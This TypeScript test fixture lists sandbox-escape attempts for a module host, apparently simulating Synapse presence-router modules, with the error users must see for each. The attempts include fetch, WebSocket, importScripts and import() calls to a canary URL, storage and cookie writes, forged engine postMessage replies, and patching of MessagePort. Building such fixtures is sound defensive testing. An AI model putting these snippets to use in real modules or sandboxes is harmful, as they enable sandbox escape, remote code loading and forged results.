// Hostile module fixtures: each tries ONE way out of the sandbox, once while the module
// loads (caught, reported with console.warn) and once inside a router callback
// (uncaught: the engine reports it as the callback's error, R63). `CANARY` is replaced
// with a URL of the test server that must never be requested.
//
// `expect` is what the user must be told (in Problems) for both attempts.

export interface Attack {
  name: string;
  /** Statements; may `await`. Runs in an async function. */
  code: string;
  expect: RegExp;
  /** Refused by the compiler already (a compile error on the line), so nothing runs. */
  compileError?: boolean;
  /** The failure surfaces only after the run (a task, not a microtask): only the callback's report is asserted. */
  lateFailure?: boolean;
}

const NOT_AVAILABLE = (name: string) => new RegExp(`${name.replace(/[.$]/g, "\\$&")} is not available in a module`);

export const ATTACKS: Attack[] = [
  { name: "fetch", code: `await fetch(CANARY + "fetch");`, expect: NOT_AVAILABLE("fetch") },
  { name: "fetch-via-prototype", code: `const f = Object.getPrototypeOf(globalThis).fetch ?? (globalThis as any).WorkerGlobalScope?.prototype?.fetch; await f.call(globalThis, CANARY + "fetch-proto");`, expect: /not a function|not available in a module|Cannot read properties of undefined/ },
  { name: "XMLHttpRequest", code: `const x = new (globalThis as any).XMLHttpRequest(); x.open("GET", CANARY + "xhr"); x.send();`, expect: NOT_AVAILABLE("XMLHttpRequest") },
  { name: "WebSocket", code: `new (globalThis as any).WebSocket(CANARY.replace("http", "ws") + "ws");`, expect: NOT_AVAILABLE("WebSocket") },
  { name: "EventSource", code: `new (globalThis as any).EventSource(CANARY + "sse");`, expect: NOT_AVAILABLE("EventSource") },
  { name: "importScripts", code: `(globalThis as any).importScripts(CANARY + "importScripts.js");`, expect: NOT_AVAILABLE("importScripts") },
  // esbuild turns import(x) into require(x) in the CJS bundle: refused by the module host.
  { name: "import()", code: `await import(CANARY + "import.js");`, expect: /cannot import/, compileError: true },
  // A real dynamic import, out of esbuild's sight: the sandbox CSP refuses the script. Its
  // rejection arrives as a task, after the engine gave up waiting (the simulated clock
  // stands still during a callback), so the callback is reported as not settling.
  { name: "import() via Function", code: `await new Function("u", "return import(u)")(CANARY + "import-fn.js");`, expect: /get_users_for_states the returned Promise did not settle/, lateFailure: true },
  { name: "navigator.sendBeacon", code: `(navigator as any).sendBeacon(CANARY + "beacon", "x");`, expect: NOT_AVAILABLE("navigator.sendBeacon") },
  { name: "nested Worker", code: `new (globalThis as any).Worker(URL.createObjectURL(new Blob(["fetch('" + CANARY + "nested')"])));`, expect: NOT_AVAILABLE("Worker") },
  { name: "localStorage", code: `(globalThis as any).localStorage.setItem("pwned", "1");`, expect: NOT_AVAILABLE("localStorage") },
  { name: "sessionStorage", code: `(globalThis as any).sessionStorage.setItem("pwned", "1");`, expect: NOT_AVAILABLE("sessionStorage") },
  { name: "indexedDB.open", code: `(globalThis as any).indexedDB.open("pwned");`, expect: NOT_AVAILABLE("indexedDB") },
  { name: "caches.open", code: `await (globalThis as any).caches.open("pwned");`, expect: NOT_AVAILABLE("caches") },
  { name: "document.cookie", code: `(globalThis as any).document.cookie = "pwned=1";`, expect: NOT_AVAILABLE("document") },
  { name: "parent", code: `(globalThis as any).parent.postMessage({ type: "result", id: 1 }, "*");`, expect: NOT_AVAILABLE("parent") },
  { name: "top", code: `(globalThis as any).top.location.href = CANARY + "top";`, expect: NOT_AVAILABLE("top") },
  { name: "opener", code: `(globalThis as any).opener.postMessage("x", "*");`, expect: NOT_AVAILABLE("opener") },
  { name: "window", code: `(globalThis as any).window.document.body.innerHTML = "pwned";`, expect: NOT_AVAILABLE("window") },
  // Pretending to be the engine: the worker's own channel to the iframe is gone.
  { name: "postMessage (forged engine reply)", code: `for (let id = 0; id < 50; id++) (globalThis as any).postMessage({ type: "result", id, trace: FORGED });`, expect: NOT_AVAILABLE("postMessage") },
  { name: "postMessage via prototype", code: `const p = (globalThis as any).DedicatedWorkerGlobalScope.prototype.postMessage; p.call(globalThis, { type: "result", id: 1, trace: FORGED });`, expect: /Cannot read properties of undefined|not a function/ },
  // Patching the engine's channel: MessagePort.prototype.postMessage and the data getter were captured before modules ran.
  { name: "patched MessagePort.postMessage", code: `let leaked = 0; const orig = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (this: MessagePort, ...a: any[]) { leaked++; return (orig as any).apply(this, a); }; if (!leaked) throw new Error("no engine message passed through the patched postMessage");`, expect: /no engine message passed through the patched postMessage/ },
  { name: "close()", code: `(globalThis as any).close();`, expect: NOT_AVAILABLE("close") },
];

/** A trace a forged reply would carry: a delivery no real run produces. */
export const FORGED = `{ version: 1, scenario: { servers: [], users: [], start_time: 0, end: 0 }, events: [], deliveries: [{ at: 0, server: "evil", source: "@forged:evil", viewer: "@forged:evil", transport: "sync", state: "online", via: [] }], final: {}, expectations: [], errors: [] }`;

export function hostileModule(a: Attack, canary: string): string {
  const body = a.code.replaceAll("CANARY", JSON.stringify(canary)).replaceAll("FORGED", FORGED);
  return `import type { ModuleApi, UserPresenceState } from "synapse";

async function attack(): Promise<void> {
  ${body}
}

// At load time: caught, and reported on the console.
attack().then(
  () => console.warn("ATTACK ${a.name} at load: no error"),
  (e) => console.warn("ATTACK ${a.name} at load failed: " + String(e)),
);

export default class Hostile {
  constructor(_config: unknown, api: ModuleApi) {
    api.register_presence_router_callbacks({
      // In a callback: uncaught, so it becomes the callback's error.
      get_users_for_states: async (_states: Iterable<UserPresenceState>) => {
        await attack();
        return new Map();
      },
      get_interested_users: async (_user: string) => new Set<string>(),
    });
  }
}
`;
}
